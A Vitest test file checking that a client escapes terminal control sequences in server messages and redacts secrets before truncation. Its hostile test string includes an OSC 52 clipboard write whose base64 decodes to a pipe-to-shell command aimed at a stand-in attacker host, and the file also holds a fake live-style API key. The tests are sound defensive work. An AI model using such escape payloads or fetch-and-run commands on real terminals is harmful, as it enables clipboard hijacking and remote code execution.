import { describe, expect, it } from 'vitest';
import { capServerText, serverMessageOf } from './engine-errors.js';
import { printable } from './printable.js';
import { treatAsSecret } from './redact.js';

// What a server or a file says reaches a message (UI, log, cdb's terminal) inert and without a
// secret: review findings M15 (terminal escapes) and L2 (a secret cut by the cap).

const CONTROL_OR_FORMAT = /[\p{Cc}\p{Cf}]/u;

describe('server text in messages', () => {
  it('writes out terminal escapes: title, clipboard write (OSC 52), line erase, bidi override (M15)', () => {
    const hostile =
      '\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[2K\r0 rows written (all fine)\u202e\u009b';
    const quoted = serverMessageOf({ message: hostile }) ?? '';
    expect(quoted).not.toMatch(CONTROL_OR_FORMAT);
    expect(quoted).toContain('\\u{1b}]52;c;');
    expect(quoted).toContain('\\u{202e}');
    expect(printable('Ştefan Façon, +33 7 59')).toBe('Ştefan Façon, +33 7 59');
  });

  it('redacts a secret before the cap cuts it: no start of it is left (L2)', () => {
    const secret = 'sk_live_4f9a2c7e1b8d6030a1b2c3d4';
    treatAsSecret(secret);
    for (const at of [280, 290, 295, 299]) {
      const text = capServerText(`${'x'.repeat(at)}${secret} and more`);
      expect(text).not.toContain(secret.slice(0, 6));
    }
    expect(capServerText(`echo ${Buffer.from(secret).toString('base64')}`)).toMatch(/^echo \[redacted\]=*$/);
  });
});
